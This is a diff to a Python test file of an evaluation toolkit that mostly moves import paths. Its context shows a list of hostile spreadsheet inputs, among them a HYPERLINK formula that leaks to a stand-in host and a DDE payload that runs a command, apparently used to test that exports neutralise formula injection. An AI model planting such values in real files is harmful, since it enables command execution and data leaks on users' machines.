@@ -14,7 +14,7 @@ from pathlib import Path
 import pandas as pd
 import pytest
 
-from evalkit.data import load
+from evalkit.base.data import load
 
 ROOT = Path(__file__).resolve().parents[1]
 HOSTILE = ['=HYPERLINK("http://x.example/?leak","click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A2)",
@@ -142,7 +142,7 @@ def test_summary_by_system_with_a_missing_system_names_that_group(tmp_path):
     ("metrics: {hallucination: {threshold: 0.4}}\ncalibrated_onn: x", "calibrated_onn: unknown key; did you mean 'calibrated_on'?"),
 ])
 def test_an_unknown_key_in_a_threshold_profile_is_refused(tmp_path, text, message):
-    from evalkit.profiles import ProfileError, thresholds_from_profile
+    from evalkit.decide.profiles import ProfileError, thresholds_from_profile
 
     p = tmp_path / "profile.yaml"
     p.write_text(text + "\n")
